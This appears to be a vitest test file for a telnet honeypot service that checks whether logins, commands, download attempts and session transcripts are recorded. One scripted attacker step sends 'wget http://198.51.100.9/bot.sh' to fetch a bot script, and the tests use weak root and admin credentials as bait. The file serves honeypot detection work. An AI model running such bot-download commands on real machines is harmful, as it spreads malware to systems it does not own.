import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { decodeSecret, ensureClients, runClient, startTestService, type TestService } from '@decnet/decky-kit/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { service } from './index.js';

let svc: TestService;
const dir = mkdtempSync(join(tmpdir(), 'telnet-test-'));

beforeAll(async () => {
  await ensureClients('telnet', 'expect');
  svc = await startTestService(service, { TELNET_HOSTNAME: 'nas-01', TELNET_ACCEPT: 'admin:admin123' });
});
afterAll(async () => {
  await svc?.close();
});

/** Runs an expect(1) script that drives the real telnet client; `$port` is substituted. */
async function expectScript(name: string, body: string) {
  const file = join(dir, `${name}.exp`);
  writeFileSync(file, `set timeout 10\nspawn telnet 127.0.0.1 ${svc.port}\n${body}\n`);
  return runClient('expect', [file], { timeoutMs: 30_000 });
}

describe('the real telnet client logs in, runs commands, and every attempt is captured', () => {
  it('refuses a wrong password, accepts the right one, runs commands and records the session', async () => {
    const r = await expectScript(
      'login',
      [
        'expect "nas-01 login: "',
        'send "root\\r"',
        'expect "Password: "',
        'send "wrongpass\\r"',
        'expect "Login incorrect"',
        'expect "nas-01 login: "',
        'send "root\\r"',
        'expect "Password: "',
        'send "admin\\r"',
        'expect "root@nas-01:~# "',
        'send "id\\r"',
        'expect "uid=0(root) gid=0(root) groups=0(root)"',
        'expect "# "',
        'send "wget http://198.51.100.9/bot.sh\\r"',
        'expect "Connecting to 198.51.100.9:80... failed"',
        'expect "# "',
        'send "exit\\r"',
        'expect eof',
      ].join('\n'),
    );
    expect(r.timedOut).toBe(false);
    expect(r.code).toBe(0);
    const auths = await svc.events.waitForType('auth_attempt', 2);
    expect(auths.map((a) => [a.fields['principal'], decodeSecret(a), a.fields['outcome']])).toEqual([
      ['root', 'wrongpass', 'failure'],
      ['root', 'admin', 'success'],
    ]);
    expect(auths[0]?.fields['secret_kind']).toBe('plaintext');
    const commands = await svc.events.waitForType('command', 3);
    expect(commands.map((c) => c.fields['cmd'])).toEqual(['id', 'wget http://198.51.100.9/bot.sh', 'exit']);
    const [download] = await svc.events.waitForType('download_attempt');
    expect(download?.fields).toMatchObject({ url: 'http://198.51.100.9/bot.sh', tool: 'wget', src_ip: '127.0.0.1' });
    const [rec] = await svc.events.waitForType('session_recorded');
    expect(rec?.fields).toMatchObject({ service: 'telnet', user: 'root', commands: '3', truncated: 'false' });
    const transcript = JSON.parse(rec?.fields['transcript'] ?? '[]') as [number, string, string][];
    expect(transcript.filter(([, d]) => d === 'i').map(([, , t]) => t)).toEqual(['id', 'wget http://198.51.100.9/bot.sh', 'exit']);
    expect(transcript.some(([, d, t]) => d === 'o' && t.includes('uid=0(root)'))).toBe(true);
    const sid = rec?.fields['sid'];
    const order = svc.events.events.filter((e) => e.fields['sid'] === sid).map((e) => e.type);
    expect(order[0]).toBe('connect');
    expect(order.slice(-2)).toEqual(['session_recorded', 'disconnect']);
    expect(svc.events.bad).toEqual([]);
  });

  it('opens the shell for an extra TELNET_ACCEPT login as an unprivileged user', async () => {
    const r = await expectScript(
      'user',
      ['expect "login: "', 'send "admin\\r"', 'expect "Password: "', 'send "admin123\\r"', 'expect "admin@nas-01:~\\$ "', 'send "whoami\\r"', 'expect "admin"', 'send "logout\\r"', 'expect eof'].join('\n'),
    );
    expect(r.code).toBe(0);
    const recs = await svc.events.waitFor((e) => e.type === 'session_recorded' && e.fields['user'] === 'admin');
    expect(recs).toHaveLength(1);
  });

  it('hangs up after three failed logins', async () => {
    const tries = Array.from({ length: 3 }, (_, i) => [`expect "login: "`, `send "guest${i}\\r"`, 'expect "Password: "', `send "pw${i}\\r"`, 'expect "Login incorrect"'].join('\n')).join('\n');
    const r = await expectScript('fail', `${tries}\nexpect eof`);
    expect(r.code).toBe(0);
    const fails = await svc.events.waitFor((e) => e.type === 'auth_attempt' && String(e.fields['username']).startsWith('guest'), 3);
    expect(fails.map((f) => decodeSecret(f))).toEqual(['pw0', 'pw1', 'pw2']);
  });
});
